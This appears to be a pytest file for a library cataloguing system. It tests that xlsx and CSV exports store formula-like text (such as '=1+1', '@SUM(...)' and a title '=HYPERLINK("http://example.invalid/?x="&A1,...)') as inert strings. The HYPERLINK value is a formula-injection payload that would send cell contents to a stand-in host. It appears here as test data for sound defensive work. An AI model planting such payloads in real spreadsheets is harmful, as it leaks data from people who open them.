"""Spreadsheets: text written stays text, never a formula that runs when the file opens."""

import io
from datetime import date

from openpyxl import load_workbook

from libsys.core.spreadsheets import csv_safe, table_xlsx


def test_a_text_starting_like_a_formula_is_stored_as_a_string():
    content = table_xlsx(
        "=1+1",
        "+33 -1 @SUM(A1)",
        ["Title", "Day", "Price"],
        [["=1+1", date(2025, 3, 2), 120000], ["-2+3", None, 5]],
        widths=[30, 12, 12],
        money_columns=(2,),
        total_row=["@SUM(C4:C5)", "", 120005],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    for cell in (sheet["A1"], sheet["A2"], sheet["A4"], sheet["A5"], sheet["A6"]):
        assert cell.data_type == "s", cell.coordinate
    assert [sheet["A1"].value, sheet["A4"].value, sheet["A6"].value] == [
        "=1+1",
        "=1+1",
        "@SUM(C4:C5)",
    ]
    assert sheet["B4"].number_format == "DD/MM/YYYY" and sheet["C4"].number_format == "#,##0"
    assert sheet["C6"].value == 120005 and sheet["A3"].font.bold
    assert sheet.column_dimensions["A"].width == 30


def test_csv_fields_that_look_like_formulas_get_a_quote():
    assert [csv_safe(v) for v in ("=1+1", "+1", "-1", "@A1", "Truyện Kiều", 5, "")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "Truyện Kiều",
        5,
        "",
    ]


def test_a_hyperlink_formula_in_a_title_comes_out_of_the_register_as_text(staff_client):
    """The accession register's xlsx: a title "=HYPERLINK(...)" and a call number "-2+3"
    are string cells (shown as typed), never formulas a spreadsheet program would run."""
    from datetime import date as day

    from openpyxl import load_workbook as load

    from libsys.catalog.copies.services import add_item
    from libsys.catalog.services import build_marc, save_record
    from tests.catalog.helpers import BOOK

    title = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    record = save_record(build_marc(dict(BOOK, title=title, isbn="", subtitle="", series="")))
    add_item(record, library="TVLC", store="VN", call_number="-2+3", price=1000,
             acquired_on=day(2025, 3, 2))  # fmt: skip
    response = staff_client.get(
        "/staff/registers/",
        query_string={"register": "individual", "library": "TVLC", "format": "xlsx"},
    )
    sheet = load(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    hyperlink = [cell for cell in cells if cell.value.startswith("=HYPERLINK")]
    assert hyperlink and all(cell.data_type == "s" for cell in hyperlink)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
